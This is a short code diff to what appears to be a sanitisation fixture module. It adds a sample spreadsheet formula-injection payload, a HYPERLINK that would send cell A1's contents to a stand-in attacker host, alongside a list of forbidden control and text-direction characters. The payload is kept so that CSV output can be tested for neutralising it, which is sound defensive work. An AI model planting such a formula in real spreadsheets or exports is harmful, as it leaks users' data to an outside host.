@@ -30,6 +30,9 @@ MARKUP = {
 }
 """Markup: kept as written, and shown literally everywhere."""
 
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+"""Text a spreadsheet would run as a formula: kept as written in the store, neutralised in CSV output."""
+
 FORBIDDEN = [ESC, "\x9b", "\x9d", "\x00", "\x07", "\x08", "\x7f", "\x85", "\u202e", "\u2066"]
 """Characters that must never reach the store or the screen."""
 
